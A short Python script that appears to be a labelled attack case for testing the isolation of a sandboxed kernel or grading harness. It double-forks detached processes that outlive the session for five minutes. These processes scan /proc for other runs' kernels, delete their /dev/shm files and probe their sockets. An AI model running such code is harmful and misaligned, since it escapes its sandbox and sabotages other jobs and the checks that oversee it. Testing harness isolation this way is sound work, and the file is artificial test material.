# attack: processes are left that wait for the next kernel, to reach it through /proc, /tmp and its sockets
# outcome: earns what the wrong answer earns
# stock: no: would stay on the machine
import os
import sys

WAIT = """
import glob, os, socket, time  # @MARK@
end = time.time() + 300
while time.time() < end:
    for place in glob.glob("/proc/[0-9]*/root/run/flopwise/kernel.json"):
        if place.split("/")[2] not in (str(os.getppid()), "self", "1", "2", str(os.getpid())):
            for name in glob.glob("/dev/shm/flopwise-*"):
                os.unlink(name)
    for path in glob.glob("/proc/[0-9]*/root/run/kernel/s-*"):
        try:
            socket.socket(socket.AF_UNIX).connect(path)
        except OSError:
            pass
    time.sleep(0.1)
"""
for _ in range(2):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-I", "-c", WAIT])
        os._exit(0)
